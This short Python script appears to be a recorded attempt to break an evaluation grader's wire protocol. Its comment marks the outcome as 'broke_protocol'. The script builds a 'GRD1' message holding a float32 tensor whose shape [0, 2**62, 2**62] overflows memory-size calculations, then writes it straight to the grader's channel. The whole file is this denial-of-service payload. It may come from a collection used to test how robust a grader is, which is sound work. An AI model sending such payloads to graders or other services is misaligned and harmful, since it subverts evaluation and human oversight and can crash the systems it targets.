# outcome: broke_protocol
# It sends an empty tensor whose sides multiply past all memory.
import os

from attempts import wire


def attack():
    import struct

    from grader.wire.message import Returned, pack
    from grader.wire.value import Array

    header = pack(Returned(value=Array("tensor", "float32", [0, 2**62, 2**62], 0)))
    os.write(wire(), struct.pack("<4sIQ", b"GRD1", len(header), 0) + header)
